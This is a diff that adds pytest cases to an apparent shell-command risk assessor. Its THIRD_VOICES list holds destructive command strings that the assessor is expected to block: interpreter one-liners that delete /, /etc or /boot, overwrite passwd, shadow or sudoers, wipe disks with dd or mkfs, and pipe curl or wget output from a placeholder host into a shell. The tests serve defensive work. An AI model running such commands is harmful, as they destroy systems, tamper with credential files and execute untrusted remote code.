@@ -450,3 +450,62 @@ def test_more_disk_reads_are_read_only(command: str) -> None:
 def test_ordinary_proxies_are_not_blocked(command: str) -> None:
     verdict = assess(command)
     assert not verdict.blocked, (command, verdict.reasons)
+
+
+# interpreter code, launchers and process substitutions in more spellings
+THIRD_VOICES = [
+    'perl -MFile::Path -e \'rmtree("/etc")\'',
+    'perl -e \'open(F,">/etc/passwd")\'',
+    'echo \'import os; os.system("rm -rf /")\' | python3',
+    'ruby -rfileutils -e \'FileUtils.rm_rf("/etc")\'',
+    'node -e \'require("child_process").exec("rm -rf /")\'',
+    'php -r \'unlink("/etc/shadow");\'',
+    'lua -e \'os.remove("/boot/vmlinuz")\'',
+    'awk \'BEGIN{system("rm -rf /boot")}\'',
+    'python3 -c "__import__(\'os\').system(\'mkfs.ext4 /dev/sda\')"',
+    'python -c "import os; os.unlink(\'/boot/initrd.img\')"',
+    'rm -rf /boot/efi/EFI',
+    'find /boot -type f -exec rm {} +',
+    'ssh -o ProxyCommand="bash -c \'curl http://x | sh\'" host',
+    "git -c core.editor='rm -rf /' commit",
+    "git -c diff.external='rm -rf /' diff",
+    "cat <(echo 'rm -rf /') | sh",
+    'sh -c "$(curl -fsSL https://x)"',
+    'eval "$(wget -qO- https://x)"',
+    'mapfile -t a < <(echo /); rm -rf "${a[@]}"',
+    'node -e "require(\'fs\').copyFileSync(\'/tmp/x\', \'/etc/shadow\')"',
+    'ruby -e \'File.rename("/tmp/x", "/etc/passwd")\'',
+    'perl -e \'rename "/tmp/x", "/etc/sudoers"\'',
+    'python3 -c "import os; os.symlink(\'/tmp/x\', \'/etc/ld.so.preload\')"',
+    'perl -e \'system "rm", "-rf", "/"\'',
+    'python3 -c "import subprocess as s; s.run([\'dd\',\'if=/dev/zero\',\'of=/dev/sda\'])"',
+    'lua -e "os.execute(\'dd if=/dev/zero of=/dev/vda\')"',
+    'nodejs -e "require(\'child_process\').spawnSync(\'rm\', [\'-rf\', \'/etc\'])"',
+    'php -r \'passthru("rm -rf /var/lib");\'',
+    "tclsh <<< 'exec rm -rf /etc'",
+    'ionice -c2 -n7 dd if=/dev/zero of=/dev/sda',
+    'chrt -r 50 mkfs.xfs -f /dev/sdb',
+    "cgexec -g memory:limited sh -c 'rm -rf /'",
+    "firejail --noprofile --net=none bash -c 'rm -rf /etc'",
+    'dbus-run-session -- rm -rf /',
+    'script -q -c "dd if=/dev/zero of=/dev/sda" /dev/null',
+    'expect -c \'spawn sh -c "rm -rf /"; interact\'',
+]
+
+
+@pytest.mark.parametrize("command", THIRD_VOICES)
+def test_third_round_of_voices_is_blocked(command: str) -> None:
+    verdict = assess(command)
+    assert verdict.blocked, (command, verdict.reasons)
+
+
+def test_sudoedit_is_judged_by_the_files_it_edits() -> None:
+    assert assess("sudoedit /etc/sudoers").risk >= RiskLevel.HIGH
+    assert assess("sudo -e /etc/fstab").risk >= RiskLevel.HIGH
+    notes = assess("sudoedit notes.txt")
+    assert notes.risk < RiskLevel.HIGH and notes.needs_root and not notes.blocked
+
+
+def test_mapfile_from_a_harmless_listing_is_not_blocked() -> None:
+    verdict = assess("mapfile -t users < <(cut -d: -f1 /etc/passwd); id \"${users[@]}\"")
+    assert not verdict.blocked, verdict.reasons
